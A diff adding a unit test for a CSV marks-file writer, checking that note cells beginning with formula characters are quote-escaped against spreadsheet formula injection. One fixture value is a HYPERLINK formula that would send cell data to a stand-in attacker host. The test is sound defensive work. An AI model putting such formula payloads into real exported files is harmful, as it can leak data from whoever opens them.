@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { MARKS_COLUMNS, formatMarks, isRunsOwnRow, type MarkRow } from '../../src/marks/marks-file.js';
+import { parse } from 'csv-parse/sync';
 import { parseMarks } from '../../src/marks/read-marks.js';
 import { marksFor } from '../../src/marks/run-marks.js';
 import { repId, type RunState } from '../../src/pipeline/run-state.js';
@@ -37,6 +38,44 @@ describe('marks.csv', () => {
       'b,10,pass,',
     ]);
     expect(rows).toEqual(copy);
+  });
+
+  it('writes a note that a spreadsheet would run as a formula behind a single quote, and reads it back as it was', () => {
+    const notes = [
+      '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      '+1 for the route',
+      '-0.5 points',
+      '@SUM(A1:A9)',
+      '\tindented',
+      '\rafter a CR',
+      "'=already quoted by its writer",
+      "''=two quotes",
+      "'just a quote",
+      'plain = + - @ inside',
+    ];
+    const rows: MarkRow[] = notes.map((note, i) => ({ fixture: 'f', rep: i + 1, mark: 'fail', note }));
+    const text = formatMarks(rows);
+    expect(text.split('\n').slice(1, 5)).toEqual([
+      `f,1,fail,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
+      "f,2,fail,'+1 for the route",
+      "f,3,fail,'-0.5 points",
+      "f,4,fail,'@SUM(A1:A9)",
+    ]);
+    expect(text).toContain("f,5,fail,'\tindented\n");
+    expect(text).toContain(`f,6,fail,"'\rafter a CR"\n`);
+    expect(text).toContain("f,7,fail,''=already quoted by its writer\n");
+    expect(text).toContain("f,8,fail,'''=two quotes\n");
+    // Nothing a spreadsheet runs: no note cell starts with a formula character.
+    for (const note of parseMarksRaw(text)) expect(note).not.toMatch(/^[=+\-@\t\r]/);
+    // Text that needs no guard is written as it is.
+    expect(text).toContain("f,9,fail,'just a quote\n");
+    expect(text).toContain('f,10,fail,plain = + - @ inside\n');
+    expect(parseMarks(text)).toEqual(rows);
+    expect(formatMarks(parseMarks(text))).toBe(text);
+    // Marks, reps and fixture names are not free text: they are written as they are.
+    expect(formatMarks([{ fixture: '-f', rep: 1, mark: 'pass', note: '' }])).toBe(
+      'fixture,rep,mark,note\n-f,1,pass,\n',
+    );
   });
 
   it('round-trips notes with commas, quotes, line breaks, padding and unicode', () => {
@@ -131,3 +170,8 @@ describe('marks a resume keeps', () => {
     expect(marksFor([key], state(false), previous(error), rerun).replaced).toEqual([]);
   });
 });
+
+// The note cells of marks.csv text as a spreadsheet reads them (no turnkit reader in between).
+function parseMarksRaw(text: string): string[] {
+  return (parse(text) as string[][]).slice(1).map((record) => record[3] ?? '');
+}
